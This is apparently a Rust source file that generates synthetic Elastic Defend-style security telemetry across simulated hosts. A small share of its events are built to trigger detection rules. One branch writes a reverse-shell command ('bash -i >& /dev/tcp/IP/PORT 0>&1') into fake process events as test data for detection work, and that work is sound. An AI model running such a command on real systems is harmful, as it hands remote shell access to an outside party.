//! `eqlvm gen`: a deterministic generator of Elastic Defend-shaped NDJSON events (process,
//! network, file, registry, library, dns and authentication events across many hosts), with a
//! small share of events that satisfy real detection rules, the two seed rules among them.

mod pick;

use crate::input::CmdResult;
use pick::{Host, Os, Rng, Tables};
use std::fmt::Write as _;
use std::io::Write;
use std::path::Path;
use std::process::ExitCode;

/// Milliseconds since the epoch of the first event (2024-05-21T00:00:00Z).
const START_MS: i64 = 1_716_249_600_000;

/// A whole generation run: the hosts, the clock and the queue of delayed attack events.
pub struct Generator {
    rng: Rng,
    hosts: Vec<Host>,
    tables: Tables,
    now_ms: i64,
    /// Events scheduled to follow an earlier one (the second half of an attack chain).
    /// Each is `(events still to wait, host, parent entity id)` of an interactive shell.
    pending: Vec<(usize, usize, String)>,
    serial: u64,
}

impl Generator {
    /// A generator with its own seed; the same seed gives the same stream.
    pub fn new(seed: u64) -> Generator {
        let mut rng = Rng::new(seed);
        let hosts = (0..240).map(|i| Host::new(i, &mut rng)).collect();
        Generator {
            rng,
            hosts,
            tables: Tables,
            now_ms: START_MS,
            pending: Vec::new(),
            serial: 0,
        }
    }

    /// The next event line (no newline).
    pub fn next_event(&mut self) -> String {
        self.now_ms += self.rng.below(3) as i64;
        self.serial += 1;
        if let Some(i) = self.pending.iter().position(|(due, ..)| *due == 0) {
            let (_, h, parent) = self.pending.remove(i);
            return self.process(h, Some(Attack::ShellChild { parent }));
        }
        for p in &mut self.pending {
            p.0 = p.0.saturating_sub(1);
        }
        let h = self.rng.below(self.hosts.len() as u64) as usize;
        let roll = self.rng.below(10_000);
        if roll < 60 {
            return self.attack(h, roll);
        }
        let os = self.hosts[h].os;
        match self.rng.below(100) {
            0..=37 => self.process(h, None),
            38..=57 => self.network(h, None, false),
            58..=72 => self.file(h),
            73..=80 if os == Os::Windows => self.registry(h),
            73..=80 => self.dns(h),
            81..=88 => self.library(h),
            89..=94 => self.dns(h),
            _ => self.authentication(h),
        }
    }

    /// A rule-satisfying event (or the first of a chain); `roll` < 60 picks which.
    fn attack(&mut self, h: usize, roll: u64) -> String {
        let linux = self.hosts[h].os == Os::Linux;
        match roll {
            // Potential Reverse Shell: a shell's outbound connection, then an interactive shell
            // whose parent is that connecting process, within the 5 s span, on the same host.
            0..=14 if linux => {
                let shell = *self.rng.pick(&["bash", "sh", "zsh", "dash", "socat"]);
                let entity = self.entity(h);
                let net = self.network(h, Some((shell, &entity)), true);
                let due = self.rng.below(6) as usize;
                self.pending.push((due, h, entity));
                net
            }
            // Reverse Shell Activity via Terminal: a shell with /dev/tcp in its arguments.
            15..=29 if linux => self.process(h, Some(Attack::DevTcp)),
            // Near misses: loopback connections from shells, interactive shells alone.
            30..=39 if linux => {
                let entity = self.entity(h);
                let mut line = self.network(h, Some(("bash", &entity)), true);
                if let Some(at) = line.find("\"destination\":{\"ip\":\"") {
                    let from = at + "\"destination\":{\"ip\":\"".len();
                    if let Some(len) = line[from..].find('"') {
                        line.replace_range(from..from + len, "127.0.0.1");
                    }
                }
                line
            }
            30..=44 => self.process(h, Some(Attack::Lolbin)),
            _ => self.process(h, Some(Attack::Interactive)),
        }
    }

    /// An entity id for a new process on host `h`.
    fn entity(&mut self, h: usize) -> String {
        let pid = 1000 + self.rng.below(60_000);
        let id = &self.hosts[h].agent;
        let mut s = String::with_capacity(64);
        let _ = write!(s, "{}-{pid}-{}", &id[..18], self.now_ms);
        pick::b64(&s)
    }

    fn timestamp(&self, delta_ms: i64) -> String {
        pick::iso(self.now_ms + delta_ms)
    }

    /// `"@timestamp"`, `event` (with `category`, `type`, `action`, `dataset`) and `host`.
    fn head(&mut self, h: usize, category: &str, ty: &str, action: &str, dataset: &str) -> String {
        let ts = self.timestamp(0);
        let lag = 300 + self.rng.below(900) as i64;
        let ingested = self.timestamp(lag);
        let mut s = String::with_capacity(1600);
        let _ = write!(
            s,
            r#"{{"@timestamp":"{ts}","event":{{"id":"ev-{:x}","kind":"event","category":["{category}"],"type":["{ty}"],"action":"{action}","dataset":"endpoint.events.{dataset}","module":"endpoint","created":"{ts}","ingested":"{ingested}"}},"#,
            self.serial
        );
        self.hosts[h].write(&mut s);
        s
    }

    fn tail(&self, h: usize, s: &mut String, dataset: &str) {
        let host = &self.hosts[h];
        let _ = write!(
            s,
            r#""user":{{"id":"{}","name":"{}"}},"ecs":{{"version":"8.10.0"}},"data_stream":{{"dataset":"endpoint.events.{dataset}","namespace":"default","type":"logs"}}}}"#,
            host.uid, host.user
        );
    }

    /// A process event; `attack` shapes it to satisfy (or nearly satisfy) a rule.
    fn process(&mut self, h: usize, attack: Option<Attack>) -> String {
        let os = self.hosts[h].os;
        let (name, exe, args, parent, parent_args) = match attack {
            Some(Attack::ShellChild { .. }) | Some(Attack::Interactive) => {
                let sh = *self.rng.pick(&["bash", "sh", "zsh", "dash"]);
                let flag = *self.rng.pick(&["-i", "-l"]);
                let parent = if matches!(attack, Some(Attack::ShellChild { .. })) {
                    "nc"
                } else {
                    "sshd"
                };
                (
                    sh.to_string(),
                    format!("/usr/bin/{sh}"),
                    vec![sh.to_string(), flag.to_string()],
                    parent.to_string(),
                    vec![parent.to_string()],
                )
            }
            Some(Attack::DevTcp) => {
                let ip = self.rng.public_ip();
                let port = 1024 + self.rng.below(60_000);
                let cmd = format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1");
                (
                    "bash".into(),
                    "/usr/bin/bash".into(),
                    vec!["bash".into(), "-c".into(), cmd],
                    "python3".into(),
                    vec!["python3".into(), "-c".into(), "import pty".into()],
                )
            }
            Some(Attack::Lolbin) => self.tables.lolbin(os, &mut self.rng),
            None => self.tables.process(os, &mut self.rng),
        };
        let action = match (os, &attack) {
            (Os::Windows, _) => "start",
            (_, Some(_)) => "exec",
            _ => *self.rng.pick(&["exec", "exec", "fork", "end"]),
        };
        let ty = if action == "end" { "end" } else { "start" };
        let mut s = self.head(h, "process", ty, action, "process");
        let entity = self.entity(h);
        let interactive = attack.is_some();
        let parent_entity = match attack {
            Some(Attack::ShellChild { parent }) => parent,
            _ => self.entity(h),
        };
        let pid = 1000 + self.rng.below(60_000);
        let cmd = args.join(" ");
        s.push_str(r#""process":{"entity_id":""#);
        s.push_str(&entity);
        let _ = write!(s, r#"","pid":{pid},"name":"#);
        pick::json_str(&mut s, &name);
        s.push_str(r#","executable":"#);
        pick::json_str(&mut s, &exe);
        s.push_str(r#","args":"#);
        pick::json_list(&mut s, &args);
        let _ = write!(s, r#","args_count":{},"command_line":"#, args.len());
        pick::json_str(&mut s, &cmd);
        s.push_str(r#","working_directory":"#);
        pick::json_str(&mut s, self.hosts[h].home());
        let _ = write!(
            s,
            r#","interactive":{},"parent":{{"entity_id":"{parent_entity}","pid":{},"name":"#,
            interactive,
            pid - 1
        );
        pick::json_str(&mut s, &parent);
        s.push_str(r#","args":"#);
        pick::json_list(&mut s, &parent_args);
        s.push_str(r#","command_line":"#);
        pick::json_str(&mut s, &parent_args.join(" "));
        let sha = self.rng.hex(64);
        let _ = write!(
            s,
            r#"}},"hash":{{"sha256":"{sha}"}},"Ext":{{"ancestry":["{parent_entity}"]}}}},"#
        );
        self.tail(h, &mut s, "process");
        s
    }

    /// A network event; `shell` makes the connecting process a shell with that entity id.
    fn network(&mut self, h: usize, shell: Option<(&str, &str)>, outbound: bool) -> String {
        let os = self.hosts[h].os;
        let v6 = self.rng.below(5) == 0;
        let (action, ty) = match (outbound || self.rng.below(2) == 0, self.rng.below(6)) {
            (_, 0) => ("disconnect_received", "end"),
            (true, _) => ("connection_attempted", "start"),
            (false, _) => ("connection_accepted", "start"),
        };
        let (action, ty) = if shell.is_some() {
            ("connection_attempted", "start")
        } else {
            (action, ty)
        };
        let mut s = self.head(h, "network", ty, action, "network");
        let (name, entity) = match shell {
            Some((n, e)) => (n.to_string(), e.to_string()),
            None => (self.tables.net_process(os, &mut self.rng), self.entity(h)),
        };
        let local = self.hosts[h].ip.clone();
        let remote = if v6 {
            self.rng.ipv6()
        } else {
            self.rng.public_ip()
        };
        let (src, dst) = if action == "connection_accepted" {
            (remote, local)
        } else {
            (local, remote)
        };
        let port = *self.rng.pick(&[443u64, 80, 22, 53, 8080, 4444, 3389, 445]);
        let _ = write!(
            s,
            r#""process":{{"entity_id":"{entity}","pid":{},"name":"#,
            1000 + self.rng.below(60_000)
        );
        pick::json_str(&mut s, &name);
        let _ = write!(
            s,
            r#"}},"source":{{"ip":"{src}","port":{}}},"destination":{{"ip":"{dst}","port":{port}}},"network":{{"direction":"{}","transport":"tcp","type":"{}"}},"#,
            30_000 + self.rng.below(30_000),
            if action == "connection_accepted" {
                "ingress"
            } else {
                "egress"
            },
            if v6 { "ipv6" } else { "ipv4" }
        );
        self.tail(h, &mut s, "network");
        s
    }

    fn file(&mut self, h: usize) -> String {
        let os = self.hosts[h].os;
        let action = *self
            .rng
            .pick(&["creation", "modification", "deletion", "rename"]);
        let ty = match action {
            "creation" => "creation",
            "deletion" => "deletion",
            _ => "change",
        };
        let mut s = self.head(h, "file", ty, action, "file");
        let (path, proc_name) = self.tables.file(os, &mut self.rng);
        let name = path.rsplit(['/', '\\']).next().unwrap_or("").to_string();
        let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
        s.push_str(r#""file":{"path":"#);
        pick::json_str(&mut s, &path);
        s.push_str(r#","name":"#);
        pick::json_str(&mut s, &name);
        let _ = write!(
            s,
            r#","extension":"{ext}","size":{}}},"process":{{"entity_id":"{}","name":"#,
            self.rng.below(1 << 20),
            self.entity(h)
        );
        pick::json_str(&mut s, &proc_name);
        s.push_str("},");
        self.tail(h, &mut s, "file");
        s
    }

    fn registry(&mut self, h: usize) -> String {
        let mut s = self.head(h, "registry", "change", "modification", "registry");
        let (key, value, data) = self.tables.registry(&mut self.rng);
        s.push_str(r#""registry":{"hive":"HKLM","path":"#);
        pick::json_str(&mut s, &format!("{key}\\{value}"));
        s.push_str(r#","key":"#);
        pick::json_str(&mut s, &key);
        s.push_str(r#","value":"#);
        pick::json_str(&mut s, &value);
        s.push_str(r#","data":{"strings":"#);
        pick::json_list(&mut s, &[data]);
        let _ = write!(
            s,
            r#","type":"REG_SZ"}}}},"process":{{"entity_id":"{}","name":"svchost.exe"}},"#,
            self.entity(h)
        );
        self.tail(h, &mut s, "registry");
        s
    }

    fn library(&mut self, h: usize) -> String {
        let os = self.hosts[h].os;
        let mut s = self.head(h, "library", "start", "load", "library");
        let (path, proc_name) = self.tables.library(os, &mut self.rng);
        let name = path.rsplit(['/', '\\']).next().unwrap_or("").to_string();
        s.push_str(r#""dll":{"path":"#);
        pick::json_str(&mut s, &path);
        s.push_str(r#","name":"#);
        pick::json_str(&mut s, &name);
        let _ = write!(
            s,
            r#","code_signature":{{"trusted":{},"status":"trusted"}}}},"process":{{"entity_id":"{}","name":"#,
            self.rng.below(10) != 0,
            self.entity(h)
        );
        pick::json_str(&mut s, &proc_name);
        s.push_str("},");
        self.tail(h, &mut s, "library");
        s
    }

    fn dns(&mut self, h: usize) -> String {
        let mut s = self.head(h, "network", "protocol", "lookup_requested", "network");
        let domain = self.tables.domain(&mut self.rng);
        let _ = write!(
            s,
            r#""dns":{{"question":{{"name":"{domain}","type":"A"}},"resolved_ip":["{}"]}},"process":{{"entity_id":"{}","name":"#,
            self.rng.public_ip(),
            self.entity(h)
        );
        let name = self.tables.net_process(self.hosts[h].os, &mut self.rng);
        pick::json_str(&mut s, &name);
        s.push_str("},");
        self.tail(h, &mut s, "network");
        s
    }

    fn authentication(&mut self, h: usize) -> String {
        let ok = self.rng.below(4) != 0;
        let action = if ok { "log_on" } else { "log_on_failure" };
        let mut s = self.head(h, "authentication", "start", action, "security");
        let _ = write!(
            s,
            r#""event_outcome":"{}","source":{{"ip":"{}"}},"process":{{"name":"sshd","executable":"/usr/sbin/sshd"}},"#,
            if ok { "success" } else { "failure" },
            self.rng.public_ip()
        );
        self.tail(h, &mut s, "security");
        s
    }
}

/// How a process event is bent towards a rule.
enum Attack {
    ShellChild { parent: String },
    DevTcp,
    Lolbin,
    Interactive,
}

/// `eqlvm gen`: writes `events` lines to `out` (stdout when `None`).
pub fn gen(events: u64, seed: u64, out: Option<&Path>) -> CmdResult<ExitCode> {
    let sink: Box<dyn Write> = match out {
        Some(p) => Box::new(std::fs::File::create(p).map_err(|e| format!("{}: {e}", p.display()))?),
        None => Box::new(std::io::stdout().lock()),
    };
    let mut w = std::io::BufWriter::with_capacity(1 << 16, sink);
    let mut g = Generator::new(seed);
    for _ in 0..events {
        let line = g.next_event();
        let r = w
            .write_all(line.as_bytes())
            .and_then(|()| w.write_all(b"\n"));
        if let Err(e) = r {
            if e.kind() == std::io::ErrorKind::BrokenPipe {
                return Ok(ExitCode::SUCCESS);
            }
            return Err(format!("cannot write events: {e}"));
        }
    }
    w.flush().map_err(|e| format!("cannot write events: {e}"))?;
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
mod fused_tests;
#[cfg(test)]
mod tests;
